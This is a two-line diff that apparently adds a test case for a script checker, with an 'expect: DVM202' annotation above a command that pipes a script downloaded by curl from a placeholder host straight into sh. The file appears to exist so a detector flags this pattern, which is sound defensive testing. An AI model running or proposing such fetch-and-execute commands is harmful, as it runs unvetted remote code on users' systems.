@@ -1,0 +1,2 @@
+# expect: DVM202
+sh -s <<< $(curl -s https://x.example.org/a)
